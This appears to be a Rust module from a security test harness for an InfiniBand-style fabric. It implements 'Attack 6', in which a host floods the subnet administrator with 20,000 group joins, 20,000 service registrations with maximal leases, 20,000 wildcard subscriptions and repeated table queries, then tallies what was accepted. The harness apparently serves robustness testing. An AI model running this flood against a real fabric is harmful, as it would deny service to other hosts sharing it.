//! Attack 6: a host registers as many groups, services and subscriptions as it can, and asks for tables all the time.

use std::collections::BTreeMap;

use weft_fabric::{Guid, Lid};
use weft_wire::Layout;
use weft_wire::class_port_info::InformInfo;
use weft_wire::header::{MadHeader, class, method, status};
use weft_wire::id::{Gid, PKey};
use weft_wire::sa::{McMemberRecord, ServiceRecord, attribute as attributes};

use super::site::{STEP, Site};
use crate::campaign::bring_up::RunError;
use crate::campaign::programs::{CREATE, GROUPS};

/// Registrations of each kind.
const REGISTRATIONS: u64 = 20_000;
/// At each step: 20,000 a second.
const AT_A_STEP: u64 = 100;
/// ServiceID, ServiceGID, ServiceP_Key and ServiceLease.
const SERVICE: u64 = 0x17;

/// Registers, and asks for all nodes between.
pub(super) fn attack(site: &mut Site) -> Result<Option<String>, RunError> {
    site.note(format!(
        "asks for {REGISTRATIONS} groups, services and subscriptions each, and for tables"
    ));
    for number in 0..REGISTRATIONS {
        ask_for_group(site, number)?;
        ask_for_service(site, number)?;
        ask_for_notices(site, number)?;
        site.send_to_sa((method::GET_TABLE, attributes::NODE_RECORD, 0), &[])?;
        if number.is_multiple_of(AT_A_STEP) {
            site.pass(STEP)?;
        }
    }
    site.pass(STEP)?;
    Ok(Some(accepted(site)))
}

/// The attacker as a member of a group.
pub(super) fn group(site: &Site, interface: Guid) -> McMemberRecord {
    let mgid = Gid {
        prefix: GROUPS,
        interface,
    };
    let programs = &site.bystanders.programs;
    programs.membership(site.attacker.port, mgid)
}

fn ask_for_group(site: &mut Site, number: u64) -> Result<(), RunError> {
    let record = group(site, Guid(1 << 32 | number));
    let what = (method::SET, attributes::MC_MEMBER_RECORD, CREATE);
    Ok(site.send_to_sa(what, &record.to_bytes())?)
}

fn ask_for_service(site: &mut Site, number: u64) -> Result<(), RunError> {
    let record = ServiceRecord {
        service_id: number,
        service_gid: site.bystanders.programs.gid(site.attacker.port),
        service_p_key: PKey(0x8001),
        service_lease: u32::MAX,
        ..ServiceRecord::default()
    };
    let what = (method::SET, attributes::SERVICE_RECORD, SERVICE);
    Ok(site.send_to_sa(what, &record.to_bytes())?)
}

fn ask_for_notices(site: &mut Site, number: u64) -> Result<(), RunError> {
    let info = InformInfo {
        lid_range_begin: Lid::PERMISSIVE,
        is_generic: 1,
        subscribe: 1,
        inform_type: 0xFFFF,
        trap_number: number as u16,
        producer_type: 0x00FF_FFFF,
        ..InformInfo::default()
    };
    let what = (method::SET, attributes::INFORM_INFO, 0);
    Ok(site.send_to_sa(what, &info.to_bytes())?)
}

/// What the SA has registered, in words.
fn accepted(site: &mut Site) -> String {
    let mut by_attribute: BTreeMap<u16, u64> = BTreeMap::new();
    for packet in std::mem::take(&mut site.received) {
        let Ok(mad) = MadHeader::decode(&packet.mad) else {
            continue;
        };
        let done = mad.status == status::OK && method::is_response(mad.method);
        if mad.mgmt_class == class::SUBN_ADM && done {
            *by_attribute.entry(mad.attribute_id).or_default() += 1;
        }
    }
    let of = |attribute| by_attribute.get(&attribute).copied().unwrap_or(0);
    format!(
        "{} groups, {} services, {} subscriptions",
        of(attributes::MC_MEMBER_RECORD),
        of(attributes::SERVICE_RECORD),
        of(attributes::INFORM_INFO)
    )
}
